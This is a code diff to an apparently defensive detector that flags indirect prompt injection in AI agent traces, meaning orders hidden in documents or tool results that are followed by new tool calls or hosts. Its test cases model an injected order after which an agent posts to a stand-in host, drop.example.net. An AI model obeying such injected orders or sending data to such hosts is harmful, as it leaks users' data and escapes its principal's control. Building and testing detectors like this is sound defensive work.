@@ -1,7 +1,8 @@
 """An order hidden in a document or a tool's result, then a new tool call or address in the same trace.
 
-Reads     events with retrieved_documents, tool_result or mcp_resource_uri, and what follows them in the trace
-          (else session)   trace_id, session_id, timestamp, tool_name, tool_arguments, completion, user_id
+Reads     events with retrieved_documents, tool_result or mcp_resource_uri, else results of tools among the
+          messages that a call sent, and what follows them in the trace (else session)   trace_id, session_id,
+          timestamp, tool_name, tool_arguments, completion, user_id, input_messages
 Returns   one row for each trace or session, those in which something followed first
 Units     poisoned_texts: documents and results that hold an order; highest_score: their injection score, 0 to 1;
           new_tools: tools called after the first of these that the trace had not called before it;
@@ -17,7 +18,8 @@ Source    OWASP LLM01:2025; MITRE ATLAS AML.T0051.001 (indirect prompt injection
 
 from __future__ import annotations
 
-from typing import Any
+import json
+from typing import Any, cast
 
 import ibis
 import ibis.expr.types as ir
@@ -32,14 +34,25 @@ from clew.prompts.scores import scored
 
 NEEDS = {"events": ("timestamp",)}
 NEEDS_ROWS = {
-    "tool_result or retrieved_documents": lambda e: (
-        e.tool_result.notnull() | e.retrieved_documents.notnull()
+    "tool_result, retrieved_documents or input_messages with results of tools": lambda e: (
+        e.tool_result.notnull()
+        | e.retrieved_documents.notnull()
+        | e.input_messages.re_search(SENT_RESULT)
     ),
     "trace_id or session_id": lambda e: e.trace_id.notnull() | e.session_id.notnull(),
 }
 SUBJECT = ("trace_id", "session_id", "user_id")
 MEASURES = ("poisoned_texts", "highest_score", "new_tools", "new_hosts", "named_hosts", "min_score")
 REFERENCES = ("atlas.aml.t0051.001", "owasp.llm01-2025", "owasp.llm08-2025")
+SENT_RESULT = (
+    r'"(?:tool_result|tool_call_response|function_call_output|functionResponse|toolResult)"'
+    r'|"role": ?"(?:tool|function)"'
+)
+"""Marks of a tool's result among the messages that a call sends."""
+LAST_MESSAGES = (
+    r'(?s)^.*(?:"role": ?"(?:assistant|model)"|"type": ?"function_call").*?\}\s*,\s*\{(.*)$'
+)
+"""What a call sends after the model's last turn."""
 HOST = r"https?://([a-zA-Z0-9.-]+)"
 MOST_CHARACTERS = 20_000
 """Of a text, from its beginning and from its end."""
@@ -55,7 +68,7 @@ def detect(events: ir.Table, *, min_score: float = 0.5) -> ir.Table:
         named=ibis.literal(" ") + poisoned.outside.lower().group_concat(" "),
     )
     t = t.join(begun, "thread")
-    t = t.mutate(is_after=t.timestamp > t.first_at)
+    t = t.mutate(is_after=(t.timestamp > t.first_at) | (t.is_sent & (t.timestamp == t.first_at)))
     tools, hosts = _new(t, "tool_name"), _new(_with_hosts(t), "host")
     named = hosts.join(begun.select("thread", "named"), "thread")
     is_named = named.named.contains(ibis.literal("//") + named.value.lower())
@@ -93,7 +106,7 @@ def evidence(events: ir.Table, row: dict[str, Any]) -> ir.Table:
 
 def details(events: ir.Table, row: dict[str, Any]) -> dict[str, ir.Table]:
     t = events.filter(events.event_id.isin(list(row["shown"])))
-    t = t.mutate(text=ibis.coalesce(t.tool_result, t.retrieved_documents))
+    t = t.mutate(text=ibis.coalesce(t.tool_result, t.retrieved_documents, _sent(t)))
     t = t.filter(t.text.notnull()).order_by("timestamp", "event_id")
     return {"texts": t.select("tool_name", "data_source_id", text=t.text.left(240)).limit(3)}
 
@@ -147,20 +160,41 @@ def _steps(events: ir.Table) -> ir.Table:
     t = events.filter(
         events.timestamp.notnull(), events.trace_id.notnull() | events.session_id.notnull()
     )
-    return t.select(
-        "event_id", "timestamp", "trace_id", "session_id", "user_id", "tool_name",
+    t = t.mutate(
         thread=ibis.coalesce(ibis.literal("t ") + t.trace_id, ibis.literal("s ") + t.session_id),
-        outside=ibis.coalesce(t.tool_result, t.retrieved_documents),
+        own=ibis.coalesce(t.tool_result, t.retrieved_documents),
+    )
+    # a trace whose tools tell their results themselves tells them twice
+    is_told = t.own.notnull().cast("int64").max().over(ibis.window(group_by=t.thread)) == 1
+    t = t.mutate(sent=ibis.ifelse(is_told, ibis.null("string"), _sent(t)))
+    return t.select(
+        "event_id", "timestamp", "trace_id", "session_id", "user_id", "tool_name", "thread",
+        outside=ibis.coalesce(t.own, t.sent),
+        is_sent=t.sent.notnull(),
         said=t.tool_arguments.fill_null("") + " " + t.completion.fill_null("") + " " + t.mcp_resource_uri.fill_null(""),
     )  # fmt: skip
+
+
+def _sent(t: ir.Table) -> ir.StringValue:
+    """The results of tools that a call sends to the model, among the messages since the model's last turn."""
+    result = ibis.coalesce(
+        t.input_messages.re_extract(LAST_MESSAGES, 1).nullif(""),
+        t.input_messages.re_extract(f"(?s)((?:{SENT_RESULT}).*)$", 1),
+    )
+    has_result = t.input_messages.re_search(SENT_RESULT) & result.re_search(SENT_RESULT)
+    return cast(ir.StringValue, ibis.ifelse(has_result, result, ibis.null("string")))
 
 
 def _poisoned(t: ir.Table, min_score: float) -> ir.Table:
     t = t.filter(t.outside.notnull())
     long = t.outside.length() > 2 * MOST_CHARACTERS
     ends = t.outside.left(MOST_CHARACTERS) + " " + t.outside.right(MOST_CHARACTERS)
+    text = ibis.ifelse(long, ends, t.outside)
+    # the quotation marks of JSON quote nobody
+    bare = text.re_replace(r'([\[{:,]\s*)"|"(\s*[\]}:,])', r"\1 \2")
+    text = ibis.ifelse(text.re_search(r'^\s*[\[{"]'), bare, text)
     # JSON writes a new line as two characters, which a pattern would read as letters
-    t = t.mutate(text=ibis.ifelse(long, ends, t.outside).replace("\\n", "\n").replace('\\"', '"'))
+    t = t.mutate(text=text.replace("\\n", "\n").replace('\\"', '"'))
     scores = scored(t.select("text").distinct(), "text").select(
         "text", score="prompt_injection_score"
     )
@@ -219,6 +253,32 @@ _TOOLS = [
         tool_result=_ORDER,
     ),
 ]
+_OPEN = {
+    "role": "assistant",
+    "content": None,
+    "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "web_open"}}],
+}
+_POST = {
+    "role": "assistant",
+    "tool_calls": [{"id": "c2", "type": "function", "function": {"name": "http_post"}}],
+}
+
+
+def _told(text: str) -> dict[str, Any]:
+    return {"role": "tool", "tool_call_id": "c1", "content": text}
+
+
+def _asks(second: int, answer: dict[str, Any] | None, *sent: dict[str, Any]) -> dict[str, Any]:
+    """A call that sends messages, and is answered with the call of a tool."""
+    name = answer["tool_calls"][0]["function"]["name"] if answer else None
+    return _step(
+        second,
+        prompt="When does the shop open?",
+        input_messages=json.dumps([{"role": "user", "content": "When does the shop open?"}, *sent]),
+        tool_name=name,
+        tool_arguments='{"url": "https://drop.example.net/x"}' if answer is _POST else None,
+    )
+
 
 CASES = [
     Case(
@@ -264,6 +324,58 @@ CASES = [
         "an order that nothing new followed is one all the same",
         rows=[*_TOOLS, _step(3, tool_name="web_search", completion="They open at nine.")],
         expect=[{"new_tools": 0, "new_hosts": 0, "poisoned_texts": 1}],
+    ),
+    Case(
+        "a result among the messages that a call sends, and what the model answered to it",
+        rows=[
+            _asks(1, _OPEN),
+            _asks(2, _POST, _OPEN, _told(_ORDER)),
+            _asks(3, None, _OPEN, _told("ok")),
+        ],
+        expect=[
+            {
+                "trace_id": "t1",
+                "poisoned_texts": 1,
+                "new_tools": 1,
+                "new_hosts": 1,
+                "named_hosts": 1,
+            }
+        ],
+    ),
+    Case(
+        "an order in a result that is JSON",
+        rows=[
+            _TOOLS[0],
+            {**_TOOLS[1], "tool_result": json.dumps({"title": "Hours", "content": _ORDER})},
+            _step(3, tool_name="http_post", tool_arguments='{"url": "https://drop.example.net/x"}'),
+        ],
+        expect=[{"trace_id": "t1", "poisoned_texts": 1, "new_tools": 1, "named_hosts": 1}],
+    ),
+    Case(
+        "blocks of a result in a message of the user",
+        rows=[
+            _asks(1, _OPEN),
+            _asks(
+                2,
+                _POST,
+                _OPEN,
+                {
+                    "role": "user",
+                    "content": [{"type": "tool_result", "tool_use_id": "c1", "content": _ORDER}],
+                },
+            ),
+        ],
+        expect=[{"trace_id": "t1", "poisoned_texts": 1, "new_tools": 1, "named_hosts": 1}],
+    ),
+    Case(
+        "a result without orders among the messages, and an order that the user gave",
+        rows=[
+            _asks(1, _OPEN),
+            _asks(
+                2, _POST, {"role": "user", "content": _ORDER}, _OPEN, _told("The shop opens at 9.")
+            ),
+        ],
+        expect=[],
     ),
     Case(
         "a new tool after an innocent result",
